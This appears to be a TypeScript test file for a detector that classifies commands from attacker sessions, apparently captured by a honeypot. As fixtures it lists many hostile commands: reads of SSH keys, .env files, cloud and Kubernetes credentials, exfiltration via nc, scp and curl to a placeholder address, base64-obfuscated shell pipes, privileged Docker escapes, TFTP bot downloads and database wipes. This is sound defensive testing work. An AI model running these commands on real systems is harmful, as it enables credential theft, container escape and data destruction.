// SPDX-License-Identifier: AGPL-3.0-or-later
import fc from 'fast-check';
import { withTraits } from './with-traits';

/** What the commands tell beside their text. */
function told(commands: readonly string[], payload = {}): object {
  const { op_text: _op, note_text: _note, ...rest } = withTraits(payload, commands);
  return rest;
}
const pathsOf = (...commands: readonly string[]) => told(commands);
const signalsOf = (command: string) => withTraits({}, [command]).signals;
const fileOf = (...commands: readonly string[]) => withTraits({}, commands).tftp_filename;

describe('the text of a session', () => {
  it('is what was typed, one command a line', () => {
    expect(withTraits({ service: 'mysql' }, ['id', '', 'DROP DATABASE shop'])).toEqual({
      service: 'mysql',
      op_text: 'id\nDROP DATABASE shop',
      note_text: 'id\nDROP DATABASE shop',
    });
  });

  it('is bounded, and keeps the start and the end', () => {
    const text = String(withTraits({}, [`first ${'x'.repeat(30_000)}`, 'FLUSHALL']).op_text);
    expect(text).toHaveLength(16_384);
    expect([text.startsWith('first x'), text.endsWith('\nFLUSHALL')]).toEqual([true, true]);
  });

  it.each([0, 1])('never holds half a surrogate pair (offset %d)', (offset) => {
    expect(String(withTraits({}, ['x'.repeat(offset) + '😀'.repeat(20_000)]).op_text).isWellFormed()).toBe(true);
  });

  it.each([[[]], [['']]])('is not there for %j', (commands) => {
    const payload = { session_id: 's' };
    expect(withTraits(payload, commands)).toBe(payload);
  });
});

describe('what a producer sends', () => {
  it.each([
    [{ op_text: 'FLUSHALL' }, 'op_text', 'FLUSHALL'],
    [{ command_text: 'FLUSHALL' }, 'op_text', null],
    [{ op_text: null }, 'op_text', 'cat .env; docker run -v /:/x y; tftp -gr z 192.0.2.1'],
    [{ note_text: 'pay' }, 'note_text', 'pay'],
    [{ matched_path: '/a' }, 'matched_path', '/a'],
    [{ request_path: '/a' }, 'matched_path', undefined],
    [{ path: '/a' }, 'matched_path', undefined],
    [{ matched_path: null }, 'matched_path', '.env'],
    [{ signals: [] }, 'signals', []],
    [{ tftp_filename: '' }, 'tftp_filename', ''],
  ])('%j stands: %s is %j', (payload, field, value) => {
    expect(withTraits(payload, ['cat .env; docker run -v /:/x y; tftp -gr z 192.0.2.1'])[field]).toEqual(value);
  });
});

describe('paths of secrets', () => {
  it.each([
    ['cat /srv/app/.env', '/srv/app/.env'],
    ['cat .env.bak', '.env.bak'],
    ['head -n 5 ~/.aws/credentials | nc 192.0.2.1 80', '~/.aws/credentials'],
    ['sudo cat "/home/ann/.ssh/id_ed25519"', '/home/ann/.ssh/id_ed25519'],
    ['cat /home/*/.ssh/id_*', '/home/*/.ssh/id_*'],
    ['cp -f /root/.ssh/id_rsa /tmp/k', '/root/.ssh/id_rsa'],
    ['scp -P 2222 ~/.ssh/id_rsa x@192.0.2.1:/tmp/', '~/.ssh/id_rsa'],
    ['tar czf - /var/www/wp-config.php', '/var/www/wp-config.php'],
    ['grep -i password /var/www/html/wp-config.php.bak', '/var/www/html/wp-config.php.bak'],
    ['find / -name id_rsa 2>/dev/null', 'id_rsa'],
    ['while read l; do echo $l; done < /root/.netrc', '/root/.netrc'],
    ['if true; then cat .git/config; fi', '.git/config'],
    ['kubectl exec -n prod pod-1 -- cat /run/secrets/kubernetes.io/serviceaccount/token', '/run/secrets/kubernetes.io/serviceaccount/token'],
    ['x=$(<.env)', '.env'],
    ['echo $(cat ~/.kube/config)', '~/.kube/config'],
    ['dd if=/root/.pgpass of=/tmp/x', '/root/.pgpass'],
    ['curl -F f=@/root/.aws/credentials http://192.0.2.1/', '/root/.aws/credentials'],
    ['curl -T ~/.ssh/id_rsa ftp://192.0.2.1/', '~/.ssh/id_rsa'],
    ['wget --post-file=.env http://192.0.2.1/', '.env'],
    ['c"a"t .e\\nv', '.env'],
    ['cat${IFS}.env', '.env'],
    ['sh -c "cat .env"', '.env'],
    ['echo Y2F0IC9zcnYvLmVudg== | base64 -d | sh', '/srv/.env'],
    ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
    ['curl -k https://k8s.example/api/v1/namespaces/prod/secrets?limit=5', 'https://k8s.example/api/v1/namespaces/prod/secrets?limit=5'],
  ])('%s reads %s', (command, path) => {
    expect(pathsOf(command)).toEqual({ matched_path: path });
  });

  it.each([
    'ls -l ~/.ssh/id_rsa',
    'echo A=1 > .env',
    'echo A=1 >> /srv/.env',
    'cat key > ~/.ssh/id_rsa',
    'cp key /root/.ssh/id_rsa',
    'cat ~/.ssh/id_rsa.pub',
    'cat ~/.ssh/known_hosts',
    'cat .env.example',
    'cat /etc/environment',
    'cat environment.env-ironment/x',
    'chmod 600 ~/.ssh/id_rsa',
    'ssh -i ~/.ssh/id_rsa 192.0.2.1',
    'curl -o .env http://192.0.2.1/x',
    'dd if=/dev/zero of=/root/.pgpass',
    'grep .env notes.txt',
    "echo 'cat .env'",
    'cat # .env',
    'curl -k https://kubernetes.default/api/v1/namespaces/prod/pods',
  ])('%s reads none', (command) => {
    expect(pathsOf(command)).toEqual({});
  });

  it('are told all, in order, each once, as one must not hide the other', () => {
    expect(pathsOf('cat .env', 'cat .env', 'cat /run/secrets/kubernetes.io/serviceaccount/token')).toEqual({
      matched_path: '.env\n/run/secrets/kubernetes.io/serviceaccount/token',
    });
  });

  it('are eight at most', () => {
    const commands = Array.from({ length: 20 }, (_, i) => `cat /srv/${i}/.env`);
    expect(String(withTraits({}, commands).matched_path).split('\n')).toHaveLength(8);
  });
});

describe('signs of a way out of a container', () => {
  it.each([
    ['docker run --privileged alpine', ['privileged:true']],
    ['docker run --privileged=true -it alpine sh', ['privileged:true']],
    ['sudo /usr/bin/docker -H tcp://192.0.2.1:2375 run -d --rm --privileged alpine', ['privileged:true']],
    ['docker container create --privileged alpine', ['privileged:true']],
    ['docker run -v /:/mnt alpine chroot /mnt', ['bind:/:/']],
    ['docker run -v=/:/mnt alpine', ['bind:/:/']],
    ['docker run -itv /:/mnt alpine', ['bind:/:/']],
    ['docker run -v/:/mnt alpine', ['bind:/:/']],
    ['podman run --volume /etc/:/mnt:ro alpine', ['bind:/etc']],
    ['nerdctl -n k8s.io run --volume="/../etc//.:/x" alpine', ['bind:/etc']],
    ['docker run --mount type=bind,source=/,target=/host alpine', ['bind:/:/']],
    ['docker create --mount=dst=/host,src=/etc,type=bind alpine', ['bind:/etc']],
    ['docker run -v /var/run/docker.sock:/var/run/docker.sock alpine', ['bind:/var/run/docker.sock']],
    ['docker run -v /run/docker.sock:/s alpine', ['bind:/var/run/docker.sock']],
    ['docker run --name x -e A=1 -v /tmp:/t -v /:/h --privileged --pid host alpine', ['bind:/:/', 'privileged:true']],
    ["sh -c 'docker run -v \"/:/mnt\" alpine'", ['bind:/:/']],
  ])('%s shows %j', (command, signals) => {
    expect(signalsOf(command)).toEqual(signals);
  });

  it.each([
    'docker run alpine echo --privileged',
    'docker run -it alpine sh -c "ls -v /:/x"',
    'docker run --privileged=false alpine',
    'docker run -v data:/var/lib/data alpine',
    'docker run -v /etc alpine',
    'docker run -v /etc/app:/etc/app alpine',
    'docker run --mount type=volume,source=/,target=/x alpine',
    'docker run -e X=--privileged alpine',
    'docker run -- alpine --privileged',
    'docker ps --privileged',
    'docker exec --privileged x run --privileged',
    'docker',
    'docker run -v',
    'echo docker run --privileged alpine',
  ])('%s shows none', (command) => {
    expect(signalsOf(command)).toBeUndefined();
  });
});

describe('files over TFTP', () => {
  it.each([
    ['tftp -g -r core-sw3-confg -l /tmp/x 192.0.2.1', 'core-sw3-confg'],
    ['/bin/busybox tftp -gr bot.arm 192.0.2.1', 'bot.arm'],
    ['tftp -p -l startup-config 192.0.2.1', 'startup-config'],
    ['tftp 192.0.2.1 -c get x.cfg', 'x.cfg'],
    ['tftp -i 192.0.2.1 GET x.cfg c:\\x', 'x.cfg'],
    ['atftp --get --remote-file x.cfg 192.0.2.1', 'x.cfg'],
    ['curl -o x tftp://192.0.2.1/pub/core.cfg', 'pub/core.cfg'],
    ['copy running-config tftp://192.0.2.1/core1', 'running-config'],
    ['copy TFTP: startup-config', 'startup-config'],
  ])('%s transfers %s', (command, file) => {
    expect(fileOf(command)).toBe(file);
  });

  it.each(['tftp', 'tftp 192.0.2.1', 'which tftp', 'echo tftp', 'apt install tftp-hpa', 'curl tftp://192.0.2.1/'])('%s transfers none', (command) => {
    expect(fileOf(command)).toBeUndefined();
  });

  it('are told by the one that may be a configuration, else by the first', () => {
    expect(fileOf('tftp -gr bot.arm 192.0.2.1', 'tftp -gr running-config 192.0.2.1')).toBe('running-config');
    expect(fileOf('tftp -gr bot.arm 192.0.2.1', 'tftp -gr bot.mips 192.0.2.1')).toBe('bot.arm');
  });
});

it('reads 64 KiB of what may tell something, and whatever may not beside', () => {
  const idle = Array.from({ length: 100 }, () => 'w'.repeat(8_000));
  const talk = Array.from({ length: 9 }, () => `docker ps ${'x'.repeat(8_000)}`);
  expect(told([...idle, ...talk.slice(2), 'cat .env'])).toEqual({ matched_path: '.env' });
  expect(told([...talk, 'cat .env'])).toEqual({});
});

it('takes any text, and gives lists and texts only', () => {
  const known = fc.constantFrom('docker', ' run ', ' -v', '/:/', 'tftp://', ' get ', 'cat ', '.env', 'sh -c ', '--', '=', '@');
  const syntax = fc.constantFrom('<', '>', '$(', ')', '"', "'", '\\', '`', '\n', ' ', ';', '$@');
  const command = fc.array(fc.oneof(known, syntax), { maxLength: 60 }).map((pieces) => pieces.join(''));
  fc.assert(
    fc.property(fc.array(fc.oneof(fc.string(), command), { maxLength: 9 }), (texts) => {
      const payload = withTraits({}, texts);
      expect(withTraits({}, texts)).toEqual(payload);
      expect([payload.matched_path ?? '', payload.tftp_filename ?? ''].every((value) => typeof value === 'string')).toBe(true);
      expect(payload.signals ?? []).toBeInstanceOf(Array);
    }),
  );
});
